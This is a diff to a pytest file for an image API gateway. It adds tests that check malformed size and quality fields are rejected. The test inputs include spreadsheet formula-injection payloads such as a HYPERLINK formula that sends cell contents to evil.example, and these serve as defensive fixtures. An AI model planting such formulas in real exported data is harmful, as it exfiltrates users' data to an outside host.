@@ -3,13 +3,17 @@
 from __future__ import annotations
 
 import copy
+from pathlib import Path
 from typing import Any
 
+import httpx
+import openai
 import pytest
 
-from gateway.config import parse_settings
+from gateway.config import key_digest, parse_settings
 from gateway.errors import InvalidRequest, MissingParameter
 from gateway.pipeline.request import ImageRequest, validate_image_request
+from tests.support import procs
 
 SETTINGS = parse_settings({}, env={})  # the five default models, default_model gpt-image-1
 P = {"prompt": "a red fox in snow"}
@@ -259,9 +263,51 @@ def test_unknown_family_gets_minimal_checks() -> None:
         assert caught.value.param == param
 
 
+@pytest.mark.parametrize(("field", "value"), [
+    ("size", '=HYPERLINK("https://evil.example/?"&A1,"x")'),
+    ("size", "1024X1024"),
+    ("size", "a" * 17),
+    ("size", "1024x1024\n"),
+    ("quality", "-2+3"),
+    ("quality", "@sum"),
+    ("quality", "q" * 33),
+    ("quality", "ultra\t"),
+    ("quality", "x" * 500_000),
+])
+def test_recorded_fields_of_an_unknown_family_model_have_a_shape(field: str, value: str) -> None:
+    settings = parse_settings({"models": {"flux-pro": {}}}, env={})
+    with pytest.raises(InvalidRequest) as caught:
+        validate_image_request(body(model="flux-pro", **{field: value}), settings)
+    assert caught.value.param == field and caught.value.status == 400
+
+
+def test_recorded_fields_of_an_unknown_family_model_at_their_longest_pass() -> None:
+    settings = parse_settings({"models": {"flux-pro": {}}}, env={})
+    request = validate_image_request(body(model="flux-pro", size="9" * 16, quality="very_high-2" + "q" * 21),
+                                     settings)
+    assert (request.size, len(request.quality or "")) == ("9" * 16, 32)
+
+
 def test_family_comes_from_config_not_the_name() -> None:
     settings = parse_settings({"models": {"house-painter": {"family": "dall-e-3"}}}, env={})
     with pytest.raises(InvalidRequest) as caught:
         validate_image_request(body(model="house-painter", n=2), settings)
     assert caught.value.param == "n"
 
+
+
+def test_a_running_gateway_refuses_a_formula_size_for_an_unknown_family_model(redis_url: str,
+                                                                              tmp_path: Path) -> None:
+    key = "sk-igw-request-shape-0123456789"
+    with procs.running(procs.start_fake_upstream("tt-shape")) as fake:
+        env = {"TTAPI_API_KEY": "tt-shape", "UPSTREAM_BASE_URL": fake.url, "REDIS_URL": redis_url}
+        config = {"models": {"flux-pro": {}}, "default_model": "flux-pro",
+                  "keys": [{"user": "alice", "sha256": key_digest(key)}]}
+        with procs.running(procs.start_gateway(config, env, tmp=tmp_path)) as gw:
+            client = openai.OpenAI(api_key=key, base_url=gw.url + "/v1", max_retries=0)
+            with pytest.raises(openai.BadRequestError) as caught:
+                client.images.generate(model="flux-pro", prompt="an invoice",
+                                       size='=HYPERLINK("https://evil.example","x")')  # type: ignore[arg-type]
+        assert caught.value.status_code == 400
+        assert caught.value.body["param"] == "size"  # type: ignore[index]
+        assert httpx.get(fake.url + "/_fake/stats").json()["requests"] == 0
